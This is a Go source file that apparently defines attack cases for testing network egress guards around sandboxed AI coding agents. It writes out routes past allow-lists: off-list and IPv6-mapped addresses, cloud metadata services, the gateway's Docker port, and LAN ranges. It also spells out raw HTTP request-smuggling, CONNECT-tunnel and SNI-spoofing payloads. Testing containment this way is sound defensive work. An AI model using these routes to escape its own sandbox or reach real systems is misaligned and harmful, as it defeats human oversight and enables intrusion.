package attack

import (
	"net"
	"strings"
	"time"

	"golang.org/x/net/dns/dnsmessage"
	"golang.org/x/sys/unix"
)

// directAttacks go to an address, without a name.
func directAttacks() []Attack {
	const family = "by address"
	one := func(id, tries, source string, do func(*Agent) error) Attack {
		return Attack{ID: id, Family: family, Tries: tries, Source: source, Do: do}
	}
	place := func(id, tries, source, addr string, ports ...int) Attack {
		a := one(id, tries, source, func(a *Agent) error {
			var failed []error
			for _, p := range ports {
				failed = append(failed, a.tcp(at(addr, p)), a.udp(at(addr, p)))
			}
			return all(failed...)
		})
		a.Leak = to(addr)
		return a
	}
	// At an allowed host, what counts is the port.
	host := func(id, tries, source, name, addr string, network string, port int) Attack {
		a := one(id, tries, source, func(a *Agent) error {
			err := learn(name)
			if network == "udp" {
				return all(err, a.udp(at(addr, port)))
			}
			return all(err, a.tcp(at(addr, port)))
		})
		proto := uint8(unix.IPPROTO_TCP)
		if network == "udp" {
			proto = unix.IPPROTO_UDP
		}
		a.Leak = func(e Event) bool { return to(addr)(e) && e.Proto == proto && int(e.DstPort) == port }
		return a
	}
	return []Attack{
		one("tcp4", "HTTPS to an address off the list", "", func(a *Agent) error { return a.tcp(a.evil4(443)) }),
		one("tcp6", "HTTPS to an IPv6 address off the list", "claude-code #24952", func(a *Agent) error { return a.tcp(a.evil6(443)) }),
		one("tcp4-plain", "HTTP to an address off the list", "claude-code #40213", func(a *Agent) error { return a.tcp(a.evil4(80)) }),
		one("tcp4-high-port", "a high port of an address off the list", "", func(a *Agent) error { return a.tcp(a.evil4(44444)) }),
		one("tcp6-high-port", "a high port of an IPv6 address off the list", "", func(a *Agent) error { return a.tcp(a.evil6(44444)) }),
		one("udp4", "datagrams to an address off the list", "", func(a *Agent) error { return a.udp(a.evil4(9999)) }),
		one("udp6", "datagrams to an IPv6 address off the list", "", func(a *Agent) error { return a.udp(a.evil6(9999)) }),
		one("quic", "QUIC to an address off the list", "harden-runner #112", func(a *Agent) error { return a.udp(a.evil4(443), a.evil6(443)) }),
		one("ntp", "time synchronisation, port 123/udp", "", func(a *Agent) error { return a.udp(a.evil4(123)) }),
		one("smtp", "mail, port 25", "", func(a *Agent) error { return a.tcp(a.evil4(25)) }),
		one("ssh-anywhere", "SSH to any host", "init-firewall.sh, port 22", func(a *Agent) error { return a.tcp(a.evil4(22)) }),
		one("ssh6-anywhere", "SSH to any host over IPv6", "", func(a *Agent) error { return a.tcp(a.evil6(22)) }),
		one("mapped-tcp", "an IPv4 address in the form of an IPv6 one, TCP", "", func(a *Agent) error {
			return a.socket("[::ffff:"+a.v4.String()+"]:443", unix.SOCK_STREAM, 0, dualStack)
		}),
		one("mapped-udp", "an IPv4 address in the form of an IPv6 one, UDP", "",
			func(a *Agent) error { return a.socket("[::ffff:"+a.v4.String()+"]:443", unix.SOCK_DGRAM, 0, dualStack) }),
		place("nat64", "an IPv4 address through NAT64", "", "64:ff9b::5db8:d942", 443),
		place("6to4", "an IPv4 address through 6to4", "", "2002:5db8:d942::1", 443),
		place("teredo", "an IPv4 address through Teredo", "", "2001:0:5db8:d942::1", 443),
		place("metadata", "the cloud's metadata service", "harden-runner, 169.254.169.254 open", metadata, 80),
		place("metadata6", "the cloud's metadata service over IPv6", "", metadata6, 80),
		place("metadata-ecs", "the metadata service of containers", "", ecsMetadata, 80),
		place("wireserver", "Azure's host agent", "harden-runner, 168.63.129.16 open", wireServer, 80, 32526),
		place("gateway-docker", "the container engine on the gateway", "init-firewall.sh, host /24", gatewayAddr, 2375, 2376),
		place("gateway-services", "databases and development servers on the gateway", "openai/codex #383", gatewayAddr, 5432, 3000),
		place("gateway6", "the gateway over IPv6", "", gatewayAddr6, 2375, 3000),
		place("neighbour", "another container on the network", "init-firewall.sh, host /24", neighbour, 8080),
		place("lan-192", "the office network, 192.168.0.0/16", "harden-runner, private networks open", lanAddr, 443),
		place("lan-10", "the office network, 10.0.0.0/8", "harden-runner, private networks open", lanAddr10, 443),
		place("lan6", "the office network, fd00::/8", "", lanAddr6, 443),
		host("other-port", "another port of an allowed host", "init-firewall.sh, every port of an address", "ok.test", okAddr, "tcp", 8443),
		host("other-port-6", "another port of an allowed host over IPv6", "", "ok.test", okAddr6, "tcp", 8443),
		host("ssh-allowed-host", "SSH to a host that is allowed for HTTPS", "", "ok.test", okAddr, "tcp", 22),
		host("quic-allowed-host", "QUIC to a host that is allowed over TCP", "", "ok.test", okAddr, "udp", 443),
		host("udp-allowed-host", "datagrams to a host that is allowed over TCP", "init-firewall.sh, every protocol of an address",
			"ok.test", okAddr, "udp", 5000),
		host("https-ssh-host", "HTTPS at a host that is allowed for SSH alone", "", "git.test", gitAddr, "tcp", 443),
		host("tcp-udp-host", "TCP at a host that is allowed over UDP alone", "", "udp.test", udpAddr, "tcp", 4000),
		host("static-other-port", "another port of an address entry", "", "ok.test", staticAddr, "tcp", 8081),
		place("next-address", "the address next to an allowed one", "", "93.184.216.81", 8080),
		place("class-e", "an address of the reserved class E", "", "240.0.0.7", 443),
		place("this-network", "an address of 0.0.0.0/8", "", "0.1.2.3", 443),
		one("gateway-link-local", "the gateway at its link-local address", "",
			func(a *Agent) error {
				return a.udp("[fe80::1%eth0]:" + itoa(a.port))
			}).vacuous("address resolution of that address is not answered in the lab"),
		one("fragments", "a large datagram in fragments", "", func(a *Agent) error {
			return all(send("udp", a.evil4(9999), []byte(strings.Repeat("x", 8000)), nil),
				send("udp", a.evil6(9999), []byte(strings.Repeat("x", 8000)), nil))
		}),
		one("flood", "two thousand datagrams in a row", "", func(a *Agent) error {
			conn, err := net.Dial("udp", a.evil4(9999))
			if err != nil {
				return err
			}
			defer conn.Close()
			for range 2000 {
				_, err = conn.Write([]byte(a.word))
			}
			return err
		}),
	}
}

// vacuous marks an attack that no control can show.
func (a Attack) vacuous(why string) Attack {
	a.Vacuous = why
	return a
}

func dualStack(fd int) error { return unix.SetsockoptInt(fd, unix.IPPROTO_IPV6, unix.IPV6_V6ONLY, 0) }

// switchPath is what a request for the lab's path begins with that is answered
// with 101 Switching Protocols, without a switch.
const switchPath = "GET /101 "

// webAttacks ask an allowed address for another site. The guard's own tests
// hold many more.
func webAttacks() []Attack {
	const family = "sites"
	one := func(id, tries, source, leak string, do func(*Agent) error) Attack {
		return Attack{ID: id, Family: family, Tries: tries, Source: source, Leak: site(okAddr, leak), Do: func(a *Agent) error {
			return all(learn("ok.test"), do(a))
		}}
	}
	web, webTLS := at(okAddr, 80), at(okAddr, 443)
	bytes := func(address string, stream func(a *Agent) string) func(a *Agent) error {
		return func(a *Agent) error {
			conn, err := (&net.Dialer{Timeout: time.Second}).Dial("tcp", address)
			if err != nil {
				return err
			}
			defer hangUp(conn)
			_ = conn.SetDeadline(time.Now().Add(patience))
			if _, err := conn.Write([]byte(stream(a))); err != nil {
				return err
			}
			_, err = conn.Read(make([]byte, 1024))
			return err
		}
	}
	return []Attack{
		one("other-site-tls", "another site on an allowed address, by its TLS name", "BullFrog, shared address", "neighbour.test",
			func(*Agent) error { return shake(webTLS, "neighbour.test") }),
		one("other-site-http", "another site on an allowed address, by its Host", "", "neighbour.test",
			func(*Agent) error { _, err := fetch(web, "neighbour.test"); return err }),
		one("doh-shared-address", "DNS over HTTPS on an allowed address", "", "dns.neighbour.test",
			func(*Agent) error { return shake(webTLS, "dns.neighbour.test") }),
		one("no-tls-name", "TLS without a name on an allowed address", "", "(none)", func(*Agent) error { return shake(webTLS, "") }),
		one("literal-host", "an address as the Host", "", okAddr, func(*Agent) error { _, err := fetch(web, okAddr); return err }),
		one("prefix-name", "a name that begins like an allowed one", "CVE-2026-24052", "ok.test.evil",
			func(*Agent) error { return shake(webTLS, "ok.test.evil.test") }),
		one("suffix-name", "a name that ends like an allowed one", "", "notok.test", func(*Agent) error { return shake(webTLS, "notok.test") }),
		one("two-hosts", "two Host lines, the second another site", "", "neighbour.test",
			func(*Agent) error {
				_, err := fetch(web, "ok.test", "Host: neighbour.test\r\n")
				return err
			}).vacuous("an honest server refuses it as well; others take the second"),
		one("absolute-target", "another site as an absolute target behind an allowed Host", "", "neighbour.test",
			bytes(web, func(*Agent) string { return "GET http://neighbour.test/ HTTP/1.1\r\nHost: ok.test\r\n\r\n" })),
		one("second-request", "another site by the second request of a connection", "", "neighbour.test", bytes(web, func(*Agent) string {
			return "GET / HTTP/1.1\r\nHost: ok.test\r\n\r\nGET / HTTP/1.1\r\nHost: neighbour.test\r\n\r\n"
		})),
		one("smuggled-request", "another site inside the body that one of two lengths describes", "", "neighbour.test",
			bytes(web, func(*Agent) string {
				return "POST / HTTP/1.1\r\nHost: ok.test\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\n" +
					"Host: neighbour.test\r\n\r\n"
			})),
		one("switch-that-is-none", "another site behind a 101 that a site answers and does not mean", "", "neighbour.test",
			bytes(web, func(*Agent) string {
				return switchPath +
					"HTTP/1.1\r\nHost: ok.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n" +
					"GET / HTTP/1.1\r\nHost: neighbour.test\r\n\r\n"
			})),
		one("first-site", "the first site of an allowed address, by a Host that many servers do not recognise", "", "OK.test.:80",
			bytes(web, func(*Agent) string { return "GET / HTTP/1.1\r\nHost: OK.test.:80\r\n\r\n" })),
		one("connect", "a tunnel by CONNECT through an allowed web server", "claude-code #87381", "neighbour.test",
			bytes(web, func(*Agent) string { return "CONNECT neighbour.test:443 HTTP/1.1\r\nHost: neighbour.test\r\n\r\n" })),
		one("raw-on-443", "bytes that are no TLS to port 443 of an allowed address", "", "leak-raw-on-443",
			bytes(webTLS, func(a *Agent) string { return a.word + "\r\n\r\n" })),
		one("raw-on-80", "bytes that are no HTTP to port 80 of an allowed address", "", "leak-raw-on-80",
			bytes(web, func(a *Agent) string { return a.word + "\r\n\r\n" })),
		one("ssh-on-443", "an SSH greeting to port 443 of an allowed address", "", "SSH-2.0",
			bytes(webTLS, func(*Agent) string { return "SSH-2.0-OpenSSH_9.2\r\n" })),
		one("wildcard-on-exact", "an allowed name at an address that is not its own", "", "cdn.wild.test",
			func(*Agent) error { return all(learn("cdn.wild.test"), shake(webTLS, "cdn.wild.test")) }),
		one("site-6", "another site on an allowed IPv6 address", "", "", func(*Agent) error {
			_, err := resolve("ok.test", dnsmessage.TypeAAAA)
			return all(err, shake(at(okAddr6, 443), "neighbour.test"))
		}).leak(site(okAddr6, "neighbour.test")),
		one("guard-port", "the guard's own port on loopback", "", "neighbour.test", func(a *Agent) error {
			var failed []error
			for _, port := range []int{1080, 1081, 1443, 8443, 1054} {
				failed = append(failed, shake(at("127.0.0.1", port), "neighbour.test"))
			}
			return all(failed...)
		}).vacuous("there is no guard without the firewall"),
	}
}

func (a Attack) leak(f func(Event) bool) Attack {
	a.Leak = f
	return a
}
